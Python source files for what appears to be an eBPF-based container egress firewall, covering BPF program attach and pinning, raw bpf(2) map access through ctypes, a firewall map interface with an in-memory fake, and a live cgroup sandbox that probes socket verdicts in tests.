                fd, log = K.prog_load(ptype, code, expected_attach_type=atype,
                                      name=name, log_level=log_level)
                self.progs[name] = LoadedProg(
                    name=name, fd=fd, attach_type=atype,
                    insn_count=asm.insn_count,
                    sha256=hashlib.sha256(code).hexdigest(), verifier_log=log)
        except Exception:
            self.close()
            raise

    def attach_cgroup(self, cgroup_path: str) -> int:
        """Attach all nine programs to a cgroup-v2 dir; returns its id.
        Idempotent per path: a re-enable (restart, or same live cgroup)
        attaches the NEW set first -- BPF_F_ALLOW_MULTI allows the
        overlap -- and only then detaches the old one, so there is no
        unenforced window, no leaked fd, no stranded program set."""
        prior = self._by_path.pop(str(cgroup_path), None)
        cg_fd = os.open(cgroup_path, os.O_RDONLY | os.O_DIRECTORY)
        done: list[tuple[int, int, int]] = []
        try:
            for p in self.progs.values():
                K.prog_attach(p.fd, cg_fd, p.attach_type)
                done.append((p.fd, cg_fd, p.attach_type))
        except Exception:
            # partial attach: detach what landed before closing the fd so
            # no program keeps enforcing without a handle to remove it
            for prog_fd, fd, atype in done:
                try:
                    K.prog_detach(prog_fd, fd, atype)
                except K.BpfError:
                    pass
            os.close(cg_fd)
            raise
        self._attached.extend(done)
        self._by_path[str(cgroup_path)] = cg_fd
        if prior is not None:
            self._detach_fd(prior)
        return K.cgroup_id(cgroup_path)

    def _detach_fd(self, cg_fd: int) -> None:
        remaining = []
        for prog_fd, fd, atype in self._attached:
            if fd != cg_fd:
                remaining.append((prog_fd, fd, atype))
                continue
            try:
                K.prog_detach(prog_fd, fd, atype)
            except K.BpfError:
                pass
        self._attached = remaining
        try:
            os.close(cg_fd)
        except OSError:
            pass

    def detach_cgroup(self, cgroup_path: str) -> bool:
        """Detach the program set from one cgroup (drain/disable path)."""
        cg_fd = self._by_path.pop(str(cgroup_path), None)
        if cg_fd is None:
            return False
        self._detach_fd(cg_fd)
        return True

    def detach_all(self) -> None:
        self._by_path.clear()
        seen_cg = set()
        for prog_fd, cg_fd, atype in self._attached:
            try:
                K.prog_detach(prog_fd, cg_fd, atype)
            except K.BpfKernError:
                pass
            seen_cg.add(cg_fd)
        self._attached.clear()
        for cg_fd in seen_cg:
            try:
                os.close(cg_fd)
            except OSError:
                pass

    def event_reader(self) -> K.RingBufReader:
        return K.RingBufReader(self.maps.events, RING_SZ)

    def pin_all(self, pin_dir: str) -> None:
        """Pin every map (by ABI name) and program (``prog_<name>``) into
        a bpffs directory: other processes -- PinnedMaps consumers, the
        raw-syscall fwctl -- then reach this kernel state by path."""
        from pathlib import Path as _P

        d = _P(pin_dir)
        d.mkdir(parents=True, exist_ok=True)
        from .maps import (
            MAP_BYPASS, MAP_CONTAINERS, MAP_DNS_CACHE, MAP_EVENTS,
            MAP_RATELIMIT, MAP_ROUTES, MAP_TCP_FLOWS, MAP_UDP_FLOWS,
        )

        by_name = {
            MAP_CONTAINERS: self.maps.containers, MAP_BYPASS: self.maps.bypass,
            MAP_DNS_CACHE: self.maps.dns_cache, MAP_ROUTES: self.maps.routes,
            MAP_UDP_FLOWS: self.maps.udp_flows, MAP_TCP_FLOWS: self.maps.tcp_flows,
            MAP_EVENTS: self.maps.events, MAP_RATELIMIT: self.maps.ratelimit,
        }
        # stale pins from a previous kernel would SHADOW this one: map
        # writes would land in the dead kernel's maps while the live
        # programs enforce from these -- always replace
        for name, fd in by_name.items():
            path = d / name
            path.unlink(missing_ok=True)
            K.obj_pin(fd, path)
        for name, p in self.progs.items():
            path = d / f"prog_{name}"
            path.unlink(missing_ok=True)
            K.obj_pin(p.fd, path)

    def close(self) -> None:
        self.detach_all()
        for p in self.progs.values():
            if p.fd >= 0:
                try:
                    os.close(p.fd)
                except OSError:
                    pass
                p.fd = -1
        self.progs.clear()
        self.maps.close()

    def __enter__(self) -> "FwKernel":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


class LiveMaps(_bpfsys.PinnedMaps):
    """FirewallMaps over a FwKernel's live fds: the same facade the DNS
    gate / handler / netlogger write through (maps.py), but every
    operation lands in the actual kernel maps and drain_events consumes
    the real ringbuf via mmap."""

    def __init__(self, kern: FwKernel):
        from .model import ContainerPolicy, DnsEntry, RouteKey, RouteVal, UdpFlow

        m = kern.maps
        self.pin_dir = None
        self.fwctl = ""
        BpfMap = _bpfsys.BpfMap
        self.containers = BpfMap(None, 8, ContainerPolicy.SIZE, fd=m.containers)
        self.bypass = BpfMap(None, 8, 8, fd=m.bypass)
        self.dns = BpfMap(None, 4, DnsEntry.SIZE, fd=m.dns_cache)
        self.route_map = BpfMap(None, RouteKey.SIZE, RouteVal.SIZE, fd=m.routes)
        self.udp = BpfMap(None, 8, UdpFlow.SIZE, fd=m.udp_flows)
        self.tcp = BpfMap(None, 8, UdpFlow.SIZE, fd=m.tcp_flows)
        # _maps drives the inherited flush_all(); close() is overridden so
        # the shared fds (owned by FwKernel) are never closed from here
        self._maps = [self.containers, self.bypass, self.dns, self.route_map,
                      self.udp, self.tcp]
        self._reader = kern.event_reader()

    def close(self):
        # map fds belong to FwKernel; only the ringbuf mmaps are ours
        self._reader.close()

    def drain_events(self, max_events=256):
        from .model import EgressEvent

        out = []
        for raw in self._reader.drain(max_events):
            if len(raw) == EgressEvent.SIZE:
                out.append(EgressEvent.unpack(raw))
        return out


def pack_container_policy(envoy_ip: int, dns_ip: int, hostproxy_ip: int,
                          hostproxy_port_be: int, flags: int, net_ip: int,
                          net_prefix: int) -> bytes:
    """Raw fw_container pack for callers already holding be32/be16 ints."""
    return struct.pack("<IIIHHIII", envoy_ip, dns_ip, hostproxy_ip,
                       hostproxy_port_be, 0, flags, net_ip, net_prefix)
