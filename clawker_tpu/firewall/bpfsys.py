"""Raw bpf(2) map access via ctypes: no libbpf needed for map operations.

Userspace components that only read/write PINNED maps (the DNS gate
caching resolutions, the handler enrolling cgroups, route sync, GC) need
four syscall commands -- OBJ_GET, MAP_LOOKUP/UPDATE/DELETE_ELEM plus
GET_NEXT_KEY -- none of which require ELF loading.  Program load/attach
(which does need ELF + relocation handling) stays in the native loader
(native/ebpf/fwctl.c, built with libbpf on the target host during
provisioning).  This split means the Python side works on any kernel with
a pinned map directory and zero native Python dependencies.

Parity reference: the reference does all of this through cilium/ebpf in
Go (controlplane/firewall/ebpf/manager.go OpenPinned :182 + map ops);
the syscall-level rewrite is the TPU-VM-friendly equivalent -- the gate
runs inside a container with /sys/fs/bpf bind-mounted, same as the
reference's CoreDNS container.
"""

from __future__ import annotations

import ctypes
import os
import platform
import struct
import subprocess
import time
from pathlib import Path

from .. import consts
from ..errors import ClawkerError
from .maps import (
    MAP_BYPASS,
    MAP_CONTAINERS,
    MAP_DNS_CACHE,
    MAP_ROUTES,
    MAP_TCP_FLOWS,
    MAP_UDP_FLOWS,
    FirewallMaps,
)
from .model import ContainerPolicy, DnsEntry, EgressEvent, RouteKey, RouteVal, UdpFlow

# bpf(2) command numbers (uapi/linux/bpf.h)
BPF_MAP_LOOKUP_ELEM = 1
BPF_MAP_UPDATE_ELEM = 2
BPF_MAP_DELETE_ELEM = 3
BPF_MAP_GET_NEXT_KEY = 4
BPF_OBJ_PIN = 6
BPF_OBJ_GET = 7
BPF_PROG_ATTACH = 8
BPF_PROG_DETACH = 9

BPF_ANY = 0

_SYSCALL_NR = {"x86_64": 321, "aarch64": 280, "arm64": 280}.get(platform.machine())

_libc = ctypes.CDLL(None, use_errno=True)


class BpfError(ClawkerError):
    pass


def _bpf(cmd: int, attr: bytes) -> int:
    if _SYSCALL_NR is None:
        raise BpfError(f"bpf syscall number unknown for {platform.machine()}")
    buf = ctypes.create_string_buffer(attr, len(attr))
    ret = _libc.syscall(_SYSCALL_NR, cmd, buf, len(attr))
    if ret < 0:
        err = ctypes.get_errno()
        raise BpfError(f"bpf(cmd={cmd}) failed: {os.strerror(err)}")
    return ret


def obj_get(pin_path: str | Path) -> int:
    """Open a pinned BPF object; returns its fd."""
    path = str(pin_path).encode() + b"\x00"
    path_buf = ctypes.create_string_buffer(path, len(path))
    attr = struct.pack("<QII", ctypes.addressof(path_buf), 0, 0)
    return _bpf(BPF_OBJ_GET, attr)


class BpfMap:
    """One BPF map: fixed key/value sizes, bytes in / bytes out.  Opened
    from a pin path, or wrapped around an already-live fd (the assembled
    in-process loader, fwprogs.FwKernel, hands fds straight over)."""

    def __init__(self, pin_path: Path | None, key_size: int, value_size: int,
                 *, fd: int | None = None):
        if fd is None and pin_path is None:
            raise BpfError("BpfMap needs a pin_path or an fd")
        self.fd = fd if fd is not None else obj_get(pin_path)
        self.key_size = key_size
        self.value_size = value_size

    def close(self) -> None:
        if self.fd >= 0:
            os.close(self.fd)
            self.fd = -1

    @staticmethod
    def _attr(fd: int, kbuf, value, flags: int = 0) -> bytes:
        # caller holds kbuf/value references across the syscall (thread-safe:
        # buffers live in the caller's frame, never on self)
        return struct.pack(
            "<IxxxxQQQ",
            fd,
            ctypes.addressof(kbuf),
            ctypes.addressof(value) if value is not None else 0,
            flags,
        )

    def lookup(self, key: bytes) -> bytes | None:
        kbuf = ctypes.create_string_buffer(key, self.key_size)
        vbuf = ctypes.create_string_buffer(self.value_size)
        try:
            _bpf(BPF_MAP_LOOKUP_ELEM, self._attr(self.fd, kbuf, vbuf))
        except BpfError:
            return None
        return vbuf.raw

    def update(self, key: bytes, value: bytes, flags: int = BPF_ANY) -> None:
        kbuf = ctypes.create_string_buffer(key, self.key_size)
        vbuf = ctypes.create_string_buffer(value, self.value_size)
        _bpf(BPF_MAP_UPDATE_ELEM, self._attr(self.fd, kbuf, vbuf, flags))

    def delete(self, key: bytes) -> bool:
        kbuf = ctypes.create_string_buffer(key, self.key_size)
        try:
            _bpf(BPF_MAP_DELETE_ELEM, self._attr(self.fd, kbuf, None))
            return True
        except BpfError:
            return False

    def keys(self) -> list[bytes]:
        out: list[bytes] = []
        kbuf = ctypes.create_string_buffer(self.key_size)
        nbuf = ctypes.create_string_buffer(self.key_size)
        # first key: NULL current-key pointer
        attr = struct.pack("<IxxxxQQQ", self.fd, 0, ctypes.addressof(nbuf), 0)
        try:
            _bpf(BPF_MAP_GET_NEXT_KEY, attr)
        except BpfError:
            return out
        while True:
            out.append(nbuf.raw)
            if len(out) > 1_000_000:
                raise BpfError("map iteration runaway")
            kbuf.raw = nbuf.raw
            attr = struct.pack(
                "<IxxxxQQQ", self.fd, ctypes.addressof(kbuf), ctypes.addressof(nbuf), 0
            )
            try:
                _bpf(BPF_MAP_GET_NEXT_KEY, attr)
            except BpfError:
                return out

    def items(self) -> list[tuple[bytes, bytes]]:
        out = []
        for k in self.keys():
            v = self.lookup(k)
            if v is not None:
                out.append((k, v))
        return out


def prog_attach(prog_fd: int, cgroup_fd: int, attach_type: int, flags: int = 0) -> None:
    attr = struct.pack("<IIII", cgroup_fd, prog_fd, attach_type, flags)
    _bpf(BPF_PROG_ATTACH, attr)


def prog_detach(prog_fd: int, cgroup_fd: int, attach_type: int) -> None:
    attr = struct.pack("<IIII", cgroup_fd, prog_fd, attach_type, 0)
    _bpf(BPF_PROG_DETACH, attr)


# --------------------------------------------------------------------------
# FirewallMaps over the pinned set
# --------------------------------------------------------------------------

def _ip_key(ip: str) -> bytes:
    import socket as _s

    return _s.inet_aton(ip)


class PinnedMaps(FirewallMaps):
    """FirewallMaps over /sys/fs/bpf pins.  Events are drained via the
    native loader CLI (ringbuf consumption needs mmap; `fwctl events`
    emits JSON lines), so this class degrades to no events when the
    native tool is absent rather than failing enforcement paths."""

    def __init__(self, pin_dir: str | Path = consts.BPF_PIN_DIR,
                 fwctl: str = "clawker-fwctl"):
        pin = Path(pin_dir)
        self.pin_dir = pin
        self.fwctl = fwctl
        self._maps: list[BpfMap] = []
        try:
            self.containers = self._open(pin / MAP_CONTAINERS, 8, ContainerPolicy.SIZE)
            self.bypass = self._open(pin / MAP_BYPASS, 8, 8)
            self.dns = self._open(pin / MAP_DNS_CACHE, 4, DnsEntry.SIZE)
            self.route_map = self._open(pin / MAP_ROUTES, RouteKey.SIZE, RouteVal.SIZE)
            self.udp = self._open(pin / MAP_UDP_FLOWS, 8, UdpFlow.SIZE)
            self.tcp = self._open(pin / MAP_TCP_FLOWS, 8, UdpFlow.SIZE)
        except BpfError:
            self.close()  # partial pin set: release what was opened
            raise

    def _open(self, path: Path, ksize: int, vsize: int) -> BpfMap:
        m = BpfMap(path, ksize, vsize)
        self._maps.append(m)
        return m

    def close(self) -> None:
        for m in self._maps:
            m.close()

    # containers --------------------------------------------------------
    def enroll(self, cgroup_id, policy):
        self.containers.update(struct.pack("<Q", cgroup_id), policy.pack())

    def unenroll(self, cgroup_id):
        self.containers.delete(struct.pack("<Q", cgroup_id))
        self.bypass.delete(struct.pack("<Q", cgroup_id))

    def lookup_container(self, cgroup_id):
        raw = self.containers.lookup(struct.pack("<Q", cgroup_id))
        return ContainerPolicy.unpack(raw) if raw else None

    def enrolled(self):
        return {
            struct.unpack("<Q", k)[0]: ContainerPolicy.unpack(v)
            for k, v in self.containers.items()
        }

    # bypass ------------------------------------------------------------
    # The Python API speaks unix seconds; the pinned map stores
    # CLOCK_BOOTTIME ns so the kernel's fw_bypass_active can enforce the
    # dead-man deadline itself (fail-closed even if every userspace
    # process dies the moment after granting the bypass).

    @staticmethod
    def _boottime_ns() -> int:
        return time.clock_gettime_ns(time.CLOCK_BOOTTIME)

    def _unix_to_boot_ns(self, deadline_unix: float) -> int:
        return self._boottime_ns() + int((deadline_unix - time.time()) * 1e9)

    def _boot_ns_to_unix(self, deadline_boot_ns: int) -> int:
        return int(time.time() + (deadline_boot_ns - self._boottime_ns()) / 1e9)

    def set_bypass(self, cgroup_id, deadline_unix):
        self.bypass.update(struct.pack("<Q", cgroup_id),
                           struct.pack("<Q", self._unix_to_boot_ns(deadline_unix)))

    def clear_bypass(self, cgroup_id):
        self.bypass.delete(struct.pack("<Q", cgroup_id))

    def bypassed(self, cgroup_id):
        raw = self.bypass.lookup(struct.pack("<Q", cgroup_id))
        if raw is None:
            return False
        return struct.unpack("<Q", raw)[0] > self._boottime_ns()

    def bypass_entries(self):
        return {
            struct.unpack("<Q", k)[0]: self._boot_ns_to_unix(struct.unpack("<Q", v)[0])
            for k, v in self.bypass.items()
        }

    # dns ---------------------------------------------------------------
    def cache_dns(self, ip, entry):
        self.dns.update(_ip_key(ip), entry.pack())

    def lookup_dns(self, ip):
        raw = self.dns.lookup(_ip_key(ip))
        return DnsEntry.unpack(raw) if raw else None

    def dns_entries(self):
        import socket as _s

        return {_s.inet_ntoa(k): DnsEntry.unpack(v) for k, v in self.dns.items()}

    def expire_dns(self, now_unix=None):
        now = int(now_unix if now_unix is not None else time.time())
        removed = 0
        for k, v in self.dns.items():
            if DnsEntry.unpack(v).expires_unix <= now:
                if self.dns.delete(k):
                    removed += 1
        return removed

    # routes ------------------------------------------------------------
    def sync_routes(self, table):
        """Swap-by-diff: upsert the new table, then delete keys not in it.
        BPF hash maps have no transactional replace; upsert-then-prune
        keeps every in-flight lookup hitting either old or new value,
        never a hole (reference: atomic global route_map swap,
        handler.go:1015)."""
        want = {k.pack(): v.pack() for k, v in table.items()}
        for k, v in want.items():
            self.route_map.update(k, v)
        for k in self.route_map.keys():
            if bytes(k) not in want:
                self.route_map.delete(k)

    def lookup_route(self, key):
        raw = self.route_map.lookup(key.pack())
        return RouteVal.unpack(raw) if raw else None

    def routes(self):
        return {RouteKey.unpack(k): RouteVal.unpack(v) for k, v in self.route_map.items()}

    # udp ---------------------------------------------------------------
    def record_udp_flow(self, cookie, flow):
        self.udp.update(struct.pack("<Q", cookie), flow.pack())

    def lookup_udp_flow(self, cookie):
        raw = self.udp.lookup(struct.pack("<Q", cookie))
        return UdpFlow.unpack(raw) if raw else None

    def record_tcp_flow(self, cookie, flow):
        self.tcp.update(struct.pack("<Q", cookie), flow.pack())

    def lookup_tcp_flow(self, cookie):
        raw = self.tcp.lookup(struct.pack("<Q", cookie))
        return UdpFlow.unpack(raw) if raw else None

    # events ------------------------------------------------------------
    def emit_event(self, ev):
        pass  # kernel-only producer on the real map set

    def drain_events(self, max_events=256):
        import json

        try:
            res = subprocess.run(
                [self.fwctl, "events", "--max", str(max_events),
                 "--pin-dir", str(self.pin_dir)],
                capture_output=True, timeout=10,
            )
        except (OSError, subprocess.TimeoutExpired):
            return []
        if res.returncode != 0:
            return []
        out = []
        for line in res.stdout.splitlines():
            try:
                d = json.loads(line)
                from .model import Action, Reason

                out.append(EgressEvent(
                    ts_ns=d["ts_ns"], cgroup_id=d["cgroup"], dst_ip=d["dst_ip"],
                    dst_port=d["dst_port"], zone_hash=d["zone"],
                    verdict=Action(d["verdict"]), proto=d["proto"],
                    reason=Reason(d["reason"]),
                ))
            except (ValueError, KeyError):
                continue
        return out

    # lifecycle ---------------------------------------------------------
    def flush_all(self):
        for m in self._maps:
            for k in m.keys():
                m.delete(k)
