"""Live-kernel enforcement sandbox: real cgroup, real sockets, real verdicts.

This is the harness that grades the assembled firewall programs
(fwprogs.py) against the actual kernel instead of the host-compiled twin
(native/ebpf/fw_harness.c): it creates a scratch cgroup-v2 directory,
attaches all nine verified programs with BPF_F_ALLOW_MULTI, enrolls a
policy, then forks probe children INTO the cgroup and observes what
their socket syscalls actually return -- connect() EPERM for denies,
redirected flows landing on real listeners, getpeername()/recvfrom()
reporting reverse-NATted peers, SOCK_RAW refused at socket().

Used by tests/test_bpf_live.py (skip-gated on kernel capability),
scripts/bpfgate.py (the committed verifier + enforcement transcript) and
the parity red-team lane's socket re-grading.

Parity reference: the reference's equivalent confidence comes from e2e
suites against real containers (test/e2e/firewall_test.go:77-1326); this
sandbox delivers the same observable -- kernel-enforced socket behavior
-- without a container runtime, which is exactly the enforcement layer's
job (cgroup programs don't care who created the cgroup).
"""

from __future__ import annotations

import errno
import json
import os
import socket
import threading
import time
import warnings
from pathlib import Path

# the multi-threaded-fork DeprecationWarning doesn't apply to the probe
# children (sockets + os.write + _exit only, no locks, no exec); filter
# ONCE at import rather than mutating global filter state per fork while
# service-double threads are live
warnings.filterwarnings(
    "ignore", message=r".*use of fork\(\) may lead to deadlocks.*",
    category=DeprecationWarning)

from . import bpfkern as K
from .fwprogs import FwKernel, LiveMaps
from .model import ContainerPolicy

_JOIN_FILE = "cgroup.procs"


class LiveSandbox:
    """Scratch cgroup + attached FwKernel + child-process probe runner."""

    def __init__(self, tag: str = "clawker-bpf"):
        root = K.cgroup2_root()
        if root is None:
            raise K.BpfKernError("no writable cgroup-v2 hierarchy")
        self.cg_dir = root / f"{tag}-{os.getpid()}"
        self.cg_dir.mkdir(exist_ok=True)
        self.kern: FwKernel | None = None
        self.maps: LiveMaps | None = None
        try:
            self.kern = FwKernel()
            self.cgroup_id = self.kern.attach_cgroup(str(self.cg_dir))
            self.maps = LiveMaps(self.kern)
        except Exception:
            self.close()
            raise

    def enroll(self, policy: ContainerPolicy) -> None:
        self.maps.enroll(self.cgroup_id, policy)

    def run_in_cgroup(self, fn, *args):
        """Fork, join the scratch cgroup, run fn(*args), return its JSON
        result.  The child joins BEFORE any socket op so every syscall is
        under enforcement."""
        r, w = os.pipe()
        pid = os.fork()  # fork warning filtered at module import
        if pid == 0:
            code = 0
            try:
                os.close(r)
                (self.cg_dir / _JOIN_FILE).write_text(str(os.getpid()))
                out = fn(*args)
            except BaseException as e:  # noqa: BLE001 - report, then _exit
                out = {"error": repr(e)}
                code = 1
            try:
                os.write(w, json.dumps(out).encode())
                os.close(w)
            finally:
                os._exit(code)
        os.close(w)
        chunks = []
        while True:
            b = os.read(r, 65536)
            if not b:
                break
            chunks.append(b)
        os.close(r)
        os.waitpid(pid, 0)
        raw = b"".join(chunks)
        out = json.loads(raw) if raw else {"error": "child died silently"}
        if isinstance(out, dict) and "error" in out and "result" not in out:
            # callers key on "result"; a child-side failure must grade as
            # a FAIL line, not crash the harness mid-transcript
            out["result"] = "child-error"
        return out

    def close(self) -> None:
        if self.maps is not None:
            self.maps.close()
            self.maps = None
        if self.kern is not None:
            self.kern.close()
            self.kern = None
        try:
            self.cg_dir.rmdir()
        except OSError:
            pass

    def __enter__(self) -> "LiveSandbox":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


# ---------------------------------------------------------------------------
# probe functions (run inside the cgroup child).  Each returns a plain
# dict so run_in_cgroup can pipe it back as JSON.
# ---------------------------------------------------------------------------

_ERRNO_NAMES = {
    errno.EPERM: "eperm",
    errno.ECONNREFUSED: "refused",
    errno.ENETUNREACH: "unreach",
    errno.EHOSTUNREACH: "unreach",
    errno.EACCES: "eacces",
    errno.EINPROGRESS: "inprogress",
}


def _errname(e: OSError) -> str:
    return _ERRNO_NAMES.get(e.errno, f"errno-{e.errno}")


def probe_tcp_connect(ip: str, port: int, timeout: float = 1.0,
                      family: int = socket.AF_INET) -> dict:
    """Blocking connect with timeout; reports how the kernel answered.
    A BPF deny surfaces as instant EPERM -- before any packet exists."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((ip, port))
        peer = s.getpeername()
        return {"result": "connected", "peer": [peer[0], peer[1]]}
    except socket.timeout:
        return {"result": "timeout"}
    except OSError as e:
        return {"result": _errname(e)}
    finally:
        s.close()


def probe_udp_exchange(ip: str, port: int, payload: bytes = b"ping",
                       timeout: float = 1.0) -> dict:
    """Unconnected sendto + recvfrom: exercises sendmsg4 (redirect) and
    recvmsg4 (reverse NAT).  Reports the reply's apparent source."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    try:
        s.sendto(payload, (ip, port))
    except OSError as e:
        s.close()
        return {"result": _errname(e)}
    try:
        data, src = s.recvfrom(2048)
        return {"result": "reply", "src": [src[0], src[1]],
                "data": data.decode(errors="replace")}
    except socket.timeout:
        return {"result": "sent-no-reply"}
    except OSError as e:
        return {"result": _errname(e)}
    finally:
        s.close()


def probe_raw_socket() -> dict:
    """SOCK_RAW at socket() time: fw_sock_create's deny surfaces here."""
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        s.close()
        return {"result": "created"}
    except OSError as e:
        return {"result": _errname(e)}


def probe_tcp_connect6(ip6: str, port: int, timeout: float = 1.0) -> dict:
    return probe_tcp_connect(ip6, port, timeout, family=socket.AF_INET6)


# ---------------------------------------------------------------------------
# loopback service doubles (run in the parent, outside the cgroup)
# ---------------------------------------------------------------------------


class TcpEcho(threading.Thread):
    """One-shot TCP acceptor standing in for an Envoy listener.

    The serve loop polls with a timeout: a blocking accept() would keep
    the kernel-side file (and the bound port) alive past close() until
    the syscall returned -- close(2) does not cancel in-flight blocking
    syscalls -- which leaks the port to the next binder."""

    def __init__(self, ip: str = "127.0.0.1", port: int = 0):
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((ip, port))
        self.sock.listen(8)
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self._stopping = threading.Event()

    def run(self) -> None:
        while not self._stopping.is_set():
            try:
                conn, _ = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                break
            self.accepted += 1
            conn.close()
        try:
            self.sock.close()
        except OSError:
            pass

    def stop(self) -> None:
        self._stopping.set()
        if self.is_alive():
            self.join(timeout=2.0)
        else:  # never started: close inline
            try:
                self.sock.close()
            except OSError:
                pass


class UdpResponder(threading.Thread):
    """One-shot UDP responder standing in for the DNS gate listener.
    Polls with a timeout for the same port-leak reason as TcpEcho."""

    def __init__(self, ip: str = "127.0.0.1", port: int = 0,
                 reply: bytes = b"gate-reply"):
        super().__init__(daemon=True)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((ip, port))
        self.sock.settimeout(0.1)
        self.port = self.sock.getsockname()[1]
        self.reply = reply
        self.received: list[bytes] = []
        self._stopping = threading.Event()

    def run(self) -> None:
        while not self._stopping.is_set():
            try:
                data, src = self.sock.recvfrom(2048)
            except socket.timeout:
                continue
            except OSError:
                break
            self.received.append(data)
            try:
                self.sock.sendto(self.reply, src)
            except OSError:
                break
        try:
            self.sock.close()
        except OSError:
            pass

    def stop(self) -> None:
        self._stopping.set()
        if self.is_alive():
            self.join(timeout=2.0)
        else:
            try:
                self.sock.close()
            except OSError:
                pass


def wait_for(cond, timeout: float = 2.0, interval: float = 0.02) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if cond():
            return True
        time.sleep(interval)
    return cond()
