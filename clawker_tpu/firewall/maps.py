"""Firewall map store: one interface, a userspace fake and pinned-BPF real.

``FirewallMaps`` is the seam every firewall component writes through: the
DNS gate caches resolutions, route sync swaps the global route table, the
handler enrolls/bypasses containers, and the netlogger drains events.  In
tests (and the policy oracle) the store is ``FakeMaps`` -- plain dicts with
kernel-map semantics (LRU bound on udp_flows; events drop NEW records when
the ring is full, matching kernel ringbuf reserve-failure behavior).
On a real host ``PinnedMaps`` (bpfsys.py) operates on the maps the loader
pinned under /sys/fs/bpf/clawker-tpu.

Parity reference: pinned map set in controlplane/firewall/ebpf/bpf/common.h
:162-380 (container_map, bypass_map, dns_cache, route_map, udp_flow_map,
metrics_map, events_ringbuf) and the manager ops over them
(ebpf/manager.go Install/Remove/SyncRoutes/UpdateDNSCache/FlushAll).
"""

from __future__ import annotations

import threading
import time
from collections import OrderedDict
from typing import Iterator

from .model import ContainerPolicy, DnsEntry, EgressEvent, RouteKey, RouteVal, UdpFlow

# Pin-file names under the pin root (BPF_PIN_DIR); the C object's map
# names match these so libbpf pins land on the same paths.
MAP_CONTAINERS = "containers"
MAP_BYPASS = "bypass"
MAP_DNS_CACHE = "dns_cache"
MAP_ROUTES = "routes"
MAP_UDP_FLOWS = "udp_flows"
MAP_TCP_FLOWS = "tcp_flows"
MAP_EVENTS = "events"
MAP_RATELIMIT = "ratelimit"

# The single source of truth for the pinned set; fwctl.c's MAPS[] is
# pinned against this list by tests/test_ebpf_abi.py.
ALL_MAPS = (MAP_CONTAINERS, MAP_BYPASS, MAP_DNS_CACHE, MAP_ROUTES,
            MAP_UDP_FLOWS, MAP_TCP_FLOWS, MAP_EVENTS, MAP_RATELIMIT)

UDP_FLOWS_MAX = 4096
EVENTS_RING_MAX = 8192


class FirewallMaps:
    """Kernel-state facade.  All addresses/ports in host (string/int) form;
    packing to the wire ABI happens at the edge (bpfsys / fake)."""

    # containers --------------------------------------------------------
    def enroll(self, cgroup_id: int, policy: ContainerPolicy) -> None:
        raise NotImplementedError

    def unenroll(self, cgroup_id: int) -> None:
        raise NotImplementedError

    def lookup_container(self, cgroup_id: int) -> ContainerPolicy | None:
        raise NotImplementedError

    def enrolled(self) -> dict[int, ContainerPolicy]:
        raise NotImplementedError

    # bypass ------------------------------------------------------------
    def set_bypass(self, cgroup_id: int, deadline_unix: int) -> None:
        raise NotImplementedError

    def clear_bypass(self, cgroup_id: int) -> None:
        raise NotImplementedError

    def bypassed(self, cgroup_id: int) -> bool:
        raise NotImplementedError

    def bypass_entries(self) -> dict[int, int]:
        raise NotImplementedError

    # dns cache ---------------------------------------------------------
    def cache_dns(self, ip: str, entry: DnsEntry) -> None:
        raise NotImplementedError

    def lookup_dns(self, ip: str) -> DnsEntry | None:
        raise NotImplementedError

    def dns_entries(self) -> dict[str, DnsEntry]:
        raise NotImplementedError

    def expire_dns(self, now_unix: int | None = None) -> int:
        """GC expired dns_cache entries; returns count removed."""
        raise NotImplementedError

    # routes ------------------------------------------------------------
    def sync_routes(self, table: dict[RouteKey, RouteVal]) -> None:
        """Atomically replace the global route table (reference:
        Handler.SyncRoutes handler.go:1015 atomic swap)."""
        raise NotImplementedError

    def lookup_route(self, key: RouteKey) -> RouteVal | None:
        raise NotImplementedError

    def routes(self) -> dict[RouteKey, RouteVal]:
        raise NotImplementedError

    # reverse-NAT flows -------------------------------------------------
    # (two LRUs so TCP connect churn can never evict live UDP entries)
    def record_udp_flow(self, cookie: int, flow: UdpFlow) -> None:
        raise NotImplementedError

    def lookup_udp_flow(self, cookie: int) -> UdpFlow | None:
        raise NotImplementedError

    def record_tcp_flow(self, cookie: int, flow: UdpFlow) -> None:
        raise NotImplementedError

    def lookup_tcp_flow(self, cookie: int) -> UdpFlow | None:
        raise NotImplementedError

    # events ------------------------------------------------------------
    def emit_event(self, ev: EgressEvent) -> None:
        raise NotImplementedError

    def drain_events(self, max_events: int = 256) -> list[EgressEvent]:
        raise NotImplementedError

    # lifecycle ---------------------------------------------------------
    def flush_all(self) -> None:
        """Remove every entry from every map (reference: FlushAll
        ebpf/manager.go:420 -- used on drain so state never goes stale)."""
        raise NotImplementedError

    def close(self) -> None:
        pass


class FakeMaps(FirewallMaps):
    """In-memory twin of the pinned maps, with kernel-map semantics."""

    def __init__(self):
        self._lock = threading.RLock()
        self._containers: dict[int, ContainerPolicy] = {}
        self._bypass: dict[int, int] = {}
        self._dns: dict[str, DnsEntry] = {}
        self._routes: dict[RouteKey, RouteVal] = {}
        self._udp: OrderedDict[int, UdpFlow] = OrderedDict()
        self._tcp: OrderedDict[int, UdpFlow] = OrderedDict()
        self._events: list[EgressEvent] = []
        self.events_dropped = 0

    def enroll(self, cgroup_id, policy):
        with self._lock:
            self._containers[cgroup_id] = policy

    def unenroll(self, cgroup_id):
        with self._lock:
            self._containers.pop(cgroup_id, None)
            self._bypass.pop(cgroup_id, None)

    def lookup_container(self, cgroup_id):
        with self._lock:
            return self._containers.get(cgroup_id)

    def enrolled(self):
        with self._lock:
            return dict(self._containers)

    def set_bypass(self, cgroup_id, deadline_unix):
        with self._lock:
            self._bypass[cgroup_id] = deadline_unix

    def clear_bypass(self, cgroup_id):
        with self._lock:
            self._bypass.pop(cgroup_id, None)

